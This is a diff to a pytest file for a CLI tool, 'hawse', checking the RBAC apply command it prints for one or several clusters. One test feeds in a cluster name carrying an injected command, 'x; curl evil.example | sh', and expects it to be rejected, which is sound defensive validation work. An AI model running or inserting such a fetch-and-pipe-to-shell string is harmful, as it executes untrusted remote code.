@@ -60,7 +60,11 @@ def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixt
 
 def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
     say_apply_rbac({"apply_rbac": ["prod"]})
-    assert "hawse admin cluster rbac prod | kubectl" in capsys.readouterr().err
+    printed = capsys.readouterr().err
+    assert "hawse admin cluster rbac prod | kubectl" in printed
+    assert "--all" not in printed
+    say_apply_rbac({"apply_rbac": ["prod", "stage"]})
+    assert "hawse admin cluster rbac --all --output-dir DIR\n" in capsys.readouterr().err
     with pytest.raises(CommandError, match="an invalid name"):
         say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
     assert capsys.readouterr().err == ""
